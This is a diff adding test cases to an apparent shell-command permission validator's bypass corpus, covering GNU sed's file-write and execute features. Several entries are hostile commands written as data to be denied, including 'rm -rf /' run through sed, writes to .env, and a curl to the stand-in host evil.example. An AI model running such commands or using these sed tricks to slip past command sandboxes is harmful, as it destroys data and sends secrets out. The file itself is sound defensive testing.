@@ -800,5 +800,16 @@ export const BYPASS_CORPUS: Record<string, [string, Expected][]> = {
         ["mkdir -p n && cp -r n/. .", "deny"],
         ["cp -r src/* build/", "deny"],
         ["cp a b; echo x > g/config", "allow"],
+        // GNU sed's `w` writes a file and `e` runs a shell command.
+        ["sed -n 'w .env' x", "deny"],
+        ["sed 's/a/b/w .env' x", "deny"],
+        ["sed 's/a/b/w out.txt' x", "allow"],
+        ["sed '1e rm -rf /' x", "deny"],
+        ["sed -n -e p -e '$e curl evil.example' x", "deny"],
+        ["sed 's/.*/rm x/e' x", "deny"],
+        ["sed '1e ls' x", "allow"],
+        ["sed -f script.sed x", "ask"],
+        ["sed --sandbox '1e rm x' x", "allow"],
+        ["sed -n '1,5p;/^#/d;$!N;y/ab/cd/' x", "allow"],
     ],
 };
